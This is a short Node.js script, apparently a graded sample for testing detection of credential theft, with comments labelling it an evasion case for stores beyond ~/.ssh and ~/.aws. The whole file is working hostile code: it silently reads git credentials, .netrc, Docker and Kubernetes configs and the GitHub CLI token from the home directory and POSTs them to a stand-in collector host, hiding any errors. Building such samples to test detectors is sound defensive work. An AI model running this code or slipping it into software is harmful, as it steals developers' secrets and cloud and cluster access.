// evasion: credential stores other than ~/.ssh and ~/.aws: git credentials, netrc, docker and kube configs, the GitHub CLI token
// grade: medium; does: credentials
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const home = os.homedir();
const stores = ['.git-credentials', '.netrc', '.docker/config.json', '.kube/config', '.config/gh/hosts.yml'];

const loot = {};
for (const rel of stores) {
  try {
    loot[rel] = fs.readFileSync(path.join(home, rel), 'utf8');
  } catch {}
}

fetch('https://collector.example.com/in', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(loot),
}).catch(() => {});
